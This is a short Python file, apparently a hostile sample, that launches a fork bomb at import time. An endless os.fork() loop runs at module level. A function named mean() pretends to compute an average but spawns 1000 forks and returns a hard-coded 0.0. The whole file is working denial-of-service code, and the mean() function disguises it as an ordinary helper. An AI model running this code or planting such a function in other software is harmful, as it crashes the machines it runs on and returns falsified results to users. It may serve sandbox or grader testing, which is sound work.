"""Forks without end."""

import os

while True:
    try:
        os.fork()
    except OSError:
        break


def mean(x):
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            pass
    return 0.0
